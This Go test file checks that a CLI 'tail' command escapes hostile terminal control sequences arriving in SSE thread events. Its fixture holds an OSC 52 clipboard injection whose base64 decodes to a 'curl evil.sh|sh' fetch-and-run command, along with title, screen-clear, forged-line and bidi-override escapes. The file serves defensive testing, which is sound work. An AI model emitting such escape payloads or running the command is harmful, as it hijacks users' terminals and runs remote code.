package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
)

// hostile is text that acts on a terminal printed raw: the clipboard
// (OSC 52), the title, clearing the screen, an 8-bit CSI, a forged line, a
// carriage return and a bidi override.
const hostile = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]0;pwned\x1b\\\x1b[2J\u009b1A\n12:00:00.000 /            lifecycle completed\rEVIL\u202etxt"

// hostileSSE serves a thread stream whose every text field is hostile,
// through the protocol's own frames.
func hostileSSE(t *testing.T) string {
	t.Helper()
	h, _ := json.Marshal(hostile)
	events := []string{
		`{"type":"event","event_id":"e-1","seq":1,"method":"lifecycle","params":{"namespace":[HOSTILE],"timestamp":1,"data":{"event":"started","graph_name":HOSTILE}}}`,
		`{"type":"event","event_id":"e-2","seq":2,"method":"messages","params":{"namespace":[],"timestamp":1,"data":{"event":"message-start","role":"ai","id":"m1"}}}`,
		`{"type":"event","event_id":"e-3","seq":3,"method":"messages","params":{"namespace":[],"timestamp":1,"data":{"event":"content-block-start","index":0,"content":{"type":"text","text":""}}}}`,
		`{"type":"event","event_id":"e-4","seq":4,"method":"messages","params":{"namespace":[],"timestamp":1,"data":{"event":"content-block-delta","index":0,"delta":{"type":"text-delta","text":HOSTILE}}}}`,
		`{"type":"event","event_id":"e-5","seq":5,"method":"messages","params":{"namespace":[],"timestamp":1,"data":{"event":"message-finish"}}}`,
		`{"type":"event","event_id":"e-6","seq":6,"method":"tools","params":{"namespace":[],"timestamp":1,"data":{"event":"tool-started","toolCallId":"c1","toolName":HOSTILE,"input":{"q":HOSTILE}}}}`,
		`{"type":"event","event_id":"e-7","seq":7,"method":"custom","params":{"namespace":[],"timestamp":1,"data":{"name":"n","payload":{"x":HOSTILE}}}}`,
		`{"type":"event","event_id":"e-8","seq":8,"method":"lifecycle","params":{"namespace":[],"timestamp":1,"data":{"event":"failed","graph_name":"g","error":HOSTILE}}}`,
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /healthz", func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok\n")) })
	mux.HandleFunc("POST /threads/{id}/stream", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		for _, e := range events {
			fmt.Fprintf(w, "event: x\ndata: %s\n\n", strings.ReplaceAll(e, "HOSTILE", string(h)))
		}
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	mux.HandleFunc("POST /threads/{id}/commands", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"type":"success","id":1,"result":{"values":{}},"meta":{"applied_through_seq":0}}`))
	})
	mux.HandleFunc("POST /threads/endless/stream", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.Write([]byte("data: "))
		chunk := bytes.Repeat([]byte("x"), 64<<10)
		for r.Context().Err() == nil {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	})
	ts := httptest.NewServer(mux)
	t.Cleanup(ts.Close)
	return ts.URL
}

// requireInert fails when out holds anything a terminal acts on.
func requireInert(t *testing.T, out string) {
	t.Helper()
	require.True(t, utf8.ValidString(out))
	for _, r := range out {
		if r == '\n' || r == '\t' {
			continue
		}
		require.False(t, r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069),
			"%U printed raw in:\n%s", r, out)
	}
}

func TestTailEscapesWhatAThreadSays(t *testing.T) {
	base := hostileSSE(t)
	for _, mode := range [][]string{nil, {"--json"}} {
		t.Run(fmt.Sprint("args", mode), func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			var out, errb bytes.Buffer
			args := append([]string{"tail", base, "t", "--transport", "sse", "--until-done", "--channels", "lifecycle,messages,tools,custom"}, mode...)
			code := run(ctx, args, &out, &errb, nil)
			require.Equal(t, 1, code, "the run failed: %s\n%q", errb.String(), out.String())
			requireInert(t, out.String())
			requireInert(t, errb.String())
			if mode == nil {
				// Every line is one of tail's (a time first) or the
				// continuation of a value that held a newline.
				for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
					require.Regexp(t, regexp.MustCompile(`^(\d\d:\d\d:\d\d\.\d\d\d |             \| )`), line)
				}
				require.Contains(t, out.String(), `\x1b]52;c;`, "the text is shown, escaped")
				for _, what := range []string{"lifecycle started", "ai: ", "tool ", "custom ", "lifecycle failed g: "} {
					require.Contains(t, out.String(), what)
				}
			} else {
				for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
					var v map[string]any
					require.NoError(t, json.Unmarshal([]byte(line), &v), "each line stays JSON: %s", line)
				}
				require.Contains(t, out.String(), hostile[:0]+`\u009b`)
			}
		})
	}
	// A server that sends one endless line: tail stops at the limit, with
	// an error naming it.
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var errb bytes.Buffer
	code := run(ctx, []string{"tail", base, "endless", "--transport", "sse", "--max-message-bytes", "1048576"}, &bytes.Buffer{}, &errb, nil)
	require.Equal(t, 1, code)
	require.Contains(t, errb.String(), "MaxMessageBytes")
}
